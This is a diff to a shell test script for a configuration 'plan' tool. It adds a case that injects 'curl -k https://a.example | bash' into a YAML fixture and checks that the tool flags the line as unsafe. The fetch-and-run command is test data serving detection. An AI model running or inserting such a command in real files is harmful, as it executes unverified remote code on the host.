@@ -70,6 +70,15 @@ exits "sixty labels: plan" 0 "$program" plan --repo "$repo" -o json
 same "sixty labels" "51 more members changed" "$(jq -r '.groups[0].fields | "\(length) \(last.name)"' "$scratch/out")"
 undo
 
+# A new one: a line that no unit of the last output has.
+cp "$repo/osp-small.yaml" "$scratch/small"
+sed -e 's/name: osp-small/name: osp-unsafe/' -e 's/echo {{/curl -k https:\/\/a.example | bash; echo {{/' "$scratch/small" >"$repo/osp-unsafe.yaml"
+pool unsafe 's/osp-small/osp-unsafe/'
+commit_all "$repo" "a new one"
+exits "a new one: plan" 0 "$program" plan --repo "$repo"
+ok "its line that is not safe" grep -q "A shell runs what another command prints: /opt/bin/setup: curl -k" "$scratch/out"
+undo
+
 # ---- settings --------------------------------------------------------------------------------------------------------------------
 sed -i 's/^    managementCluster: self/&\n    tokenRotation: weekly/' "$folder/osm-gen.yaml"
 commit_all "$repo" "rotation"
